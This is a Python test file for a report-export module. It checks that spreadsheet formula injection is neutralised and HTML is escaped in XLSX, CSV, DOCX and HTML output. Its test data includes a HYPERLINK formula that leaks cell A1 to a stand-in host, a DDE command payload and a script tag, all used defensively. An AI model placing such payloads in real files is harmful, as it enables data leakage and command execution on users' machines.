"""Tests of labkit.export: formula neutralising, escaping, files read back."""

from __future__ import annotations

import base64
import csv
import datetime as dt
import re

import docx
import matplotlib.pyplot as plt
import numpy as np
import openpyxl
import pandas as pd
import pytest

from labkit import i18n, workspace
from labkit.errors import LabkitError
from labkit.export import Document, export_path, format_value, safe_cell, write_csv, write_xlsx

HOSTILE = '=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik")'
SCRIPT = "<script>alert('x')</script>"


@pytest.mark.parametrize(
    "text",
    [
        HOSTILE,
        "+62 812",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "  =1+1",
        "\uff1d1+1",
    ],
)
def test_safe_cell_prefixes_formula_starts(text):
    out = safe_cell(text)
    assert out == "'" + text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (5, 5),
        (-5, -5),
        (2.5, 2.5),
        (np.int64(7), 7),
        (np.float64(-1.5), -1.5),
        (True, True),
        ("Humas Kota", "Humas Kota"),
        ("a=b", "a=b"),
        ("humas\x01kota\x0b", "humaskota"),
        (None, None),
        (float("nan"), None),
        (pd.NA, None),
        (pd.NaT, None),
    ],
)
def test_safe_cell_leaves_numbers_and_plain_text(value, expected):
    out = safe_cell(value)
    assert out == expected
    assert type(out) is type(expected)


def test_format_value_follows_language():
    assert format_value(1234567) == "1.234.567"
    assert format_value(1234.5) == "1.234,50"
    assert format_value(None) == "-"
    ts = pd.Timestamp("2025-03-01 02:00", tz="UTC").tz_convert("Asia/Jakarta")
    assert format_value(ts) == "2025-03-01 09:00 WIB"
    i18n.set_language("en")
    assert format_value(1234.5, decimals=1) == "1,234.5"
    assert format_value(True) == "yes"


def _table() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "akun": [HOSTILE, SCRIPT, "humas_kota", "-5"],
            "pengikut": pd.array([12500, None, 3, 4], dtype="Int64"),
            "er": [0.0123, 1.5, np.nan, 2.0],
            "waktu": pd.to_datetime(["2025-01-01 03:00"] * 4, utc=True).tz_convert("Asia/Jakarta"),
            "aktif": pd.array([True, False, None, True], dtype="boolean"),
        }
    )


def _figure():
    fig, ax = plt.subplots(figsize=(3, 2))
    ax.bar(["a", "b"], [1, 2])
    return fig


def _document() -> Document:
    fig = _figure()
    doc = (
        Document(
            f"Audit {SCRIPT}", subtitle="Dinas Kominfo Kota Contoh & Co", date=dt.date(2025, 8, 17)
        )
        .heading("Ringkasan")
        .paragraph(f"Komentar warga: {SCRIPT}\nbaris kedua")
        .bullets(["satu", HOSTILE])
        .table(_table(), "Akun yang diaudit")
        .figure(fig, "Pengikut per akun", alt="Batang: akun b punya dua kali pengikut akun a")
    )
    plt.close(fig)
    return doc


def test_html_is_self_contained_and_escaped():
    path = _document().to_html()
    assert path == workspace.work_dir() / "exports" / "audit_script_alert_x_script.html"
    text = path.read_text(encoding="utf-8")
    assert "<script" not in text.lower()
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in text
    assert "Dinas Kominfo Kota Contoh &amp; Co" in text
    assert "Content-Security-Policy" in text and "default-src 'none'" in text
    assert "Dibuat pada 17 Agustus 2025 dengan Humas Lab." in text
    assert "Tabel 1. Akun yang diaudit" in text and "Gambar 1. Pengikut per akun" in text
    assert "baris kedua" in text and "<br>" in text
    # numbers in Indonesian format, right-aligned; times in local zone
    assert '<td class="num">12.500</td>' in text
    assert "2025-01-01 10:00 WIB" in text
    # the figure is embedded as a valid PNG, with its alt text
    m = re.search(r'<img src="data:image/png;base64,([A-Za-z0-9+/=]+)" alt="([^"]*)"', text)
    assert m and base64.b64decode(m.group(1)).startswith(b"\x89PNG")
    assert m.group(2) == "Batang: akun b punya dua kali pengikut akun a"
    # no external resource is referenced
    assert not re.search(r'(src|href)="(http|//)', text)


def test_docx_reads_back_with_all_content():
    path = _document().to_docx("laporan/audit")
    assert path == workspace.work_dir() / "exports" / "laporan" / "audit.docx"
    d = docx.Document(str(path))
    texts = [p.text for p in d.paragraphs]
    assert texts[0] == f"Audit {SCRIPT}"  # literal text, not markup
    assert "Dinas Kominfo Kota Contoh & Co" in texts
    assert "Ringkasan" in texts
    assert f"Komentar warga: {SCRIPT}\nbaris kedua" in texts
    assert HOSTILE in texts
    assert "Tabel 1. Akun yang diaudit" in texts and "Gambar 1. Pengikut per akun" in texts
    (table,) = d.tables
    rows = [[c.text for c in r.cells] for r in table.rows]
    assert rows[0] == ["akun", "pengikut", "er", "waktu", "aktif"]
    assert rows[1] == [HOSTILE, "12.500", "0,01", "2025-01-01 10:00 WIB", "ya"]
    assert rows[2][:2] == [SCRIPT, "-"]
    assert len(d.inline_shapes) == 1
    descr = d.inline_shapes[0]._inline.docPr.get("descr")
    assert descr == "Batang: akun b punya dua kali pengikut akun a"
    assert d.core_properties.title == f"Audit {SCRIPT}"


def test_document_labels_follow_language():
    i18n.set_language("en")
    doc = Document("Report", date=dt.date(2025, 8, 17)).table(pd.DataFrame({"a": [1]}), "Counts")
    html = doc.render_html()
    assert "Generated on 17 August 2025 with Humas Lab." in html
    assert "Table 1. Counts" in html and 'lang="en"' in html


def test_long_tables_are_cut_with_an_honest_note():
    df = pd.DataFrame({"n": range(30)})
    doc = Document("Panjang").table(df, "Semua", max_rows=10)
    html = doc.render_html()
    assert html.count("<tr>") == 11  # header + 10 rows
    assert "20 baris lainnya tidak ditampilkan (seluruhnya 30 baris)" in html
    d = docx.Document(doc.to_docx())
    assert len(d.tables[0].rows) == 11
    assert any("20 baris lainnya" in p.text for p in d.paragraphs)


def test_empty_table_says_so():
    doc = Document("Kosong").table(pd.DataFrame({"akun": pd.Series([], dtype="string")}))
    assert "(tidak ada data)" in doc.render_html()
    d = docx.Document(doc.to_docx())
    assert d.tables[0].rows[1].cells[0].text == "(tidak ada data)"


def test_xlsx_cells_are_text_not_formulas_and_sheet_is_styled():
    path = write_xlsx({"Akun/Juli: 2025": _table(), "Ringkasan": pd.DataFrame({"x": [1]})}, "audit")
    assert path == workspace.work_dir() / "exports" / "audit.xlsx"
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Akun_Juli_ 2025", "Ringkasan"]
    ws = wb["Akun_Juli_ 2025"]
    hostile = ws["A2"]
    assert hostile.data_type == "s"
    assert hostile.value == "'" + HOSTILE
    assert ws["A3"].value == SCRIPT
    assert ws["A5"].value == "'-5"
    # numbers stay numbers, missing stays empty, times are local wall-clock
    assert ws["B2"].value == 12500 and ws["B2"].data_type == "n"
    assert ws["B3"].value is None
    assert ws["C2"].value == pytest.approx(0.0123)
    assert ws["D2"].value == dt.datetime(2025, 1, 1, 10, 0)
    assert ws["E2"].value is True
    # header style, frozen header, filter, widths
    assert [c.value for c in ws[1]] == ["akun", "pengikut", "er", "waktu", "aktif"]
    assert ws["A1"].font.bold
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:E5"
    assert ws.column_dimensions["A"].width > ws.column_dimensions["E"].width
    assert ws.column_dimensions["A"].width <= 60
    # no formula anywhere in the workbook
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            assert all(c.data_type != "f" for c in row)


def test_xlsx_from_one_frame_and_duplicate_sheet_names():
    path = write_xlsx(pd.DataFrame({"a": [1]}))
    assert path.name == "tabel.xlsx"
    path = write_xlsx(
        {"x" * 40: pd.DataFrame({"a": [1]}), "X" * 35: pd.DataFrame({"b": [2]})}, "dup"
    )
    names = openpyxl.load_workbook(path).sheetnames
    assert len(names) == 2 and all(len(n) <= 31 for n in names) and names[0] != names[1]


def test_csv_is_quoted_and_neutralised():
    path = write_csv(_table(), "akun.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM, so Excel reads UTF-8
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0] == ["akun", "pengikut", "er", "waktu", "aktif"]
    assert rows[1][0] == "'" + HOSTILE
    assert rows[4][0] == "'-5"
    assert rows[1][1] == "12500"
    assert rows[2][1] == ""


def test_writes_are_atomic_and_leave_no_temporary_files():
    write_xlsx({"a": _table()}, "a")
    _document().to_docx("a")
    leftovers = [
        p.name for p in (workspace.work_dir() / "exports").iterdir() if p.name.startswith(".")
    ]
    assert leftovers == []


def test_absolute_path_is_used_as_is(tmp_path):
    target = tmp_path / "di_sini.html"
    assert Document("x").to_html(target) == target
    assert target.exists()
    assert export_path(None, "Laporan Bulanan: Juli!", ".docx").name == "laporan_bulanan_juli.docx"


def test_bad_inputs_give_trainee_errors():
    with pytest.raises(LabkitError, match="matplotlib"):
        Document("x").figure("bukan gambar")
    with pytest.raises(LabkitError, match="DataFrame"):
        Document("x").table([1, 2, 3])
    with pytest.raises(LabkitError):
        write_xlsx({})
